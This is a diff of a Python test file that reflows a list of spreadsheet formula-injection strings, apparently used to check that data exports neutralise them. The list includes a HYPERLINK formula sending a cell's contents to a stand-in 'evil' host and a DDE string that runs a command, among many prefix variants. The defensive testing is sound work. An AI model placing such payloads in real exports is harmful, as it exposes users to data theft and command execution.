@@ -34,12 +34,29 @@ def test_an_export_holds_what_the_page_shows(admin, make, acme, delivery_rows):
 
 
 FORMULAS = (
-    '=HYPERLINK("http://evil?"&A1,"x")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1",
-    "\r=1", "\n=1", '"=1"',
-    "  =1", ";=1", ",=1", "; =1", "|=1", "'=1", "\u00a0=1", "\u3000=1",
-    "＝1", "＋1", "－1", "＠SUM(1)",
-    ";＝1", "−1",
-)  # fmt: skip
+    '=HYPERLINK("http://evil?"&A1,"x")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    '"=1"',
+    "  =1",
+    ";=1",
+    ",=1",
+    "; =1",
+    "|=1",
+    "'=1",
+    "\u00a0=1",
+    "\u3000=1",
+    "＝1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    ";＝1",
+    "−1",
+)
 
 
 @pytest.mark.parametrize("text", FORMULAS)
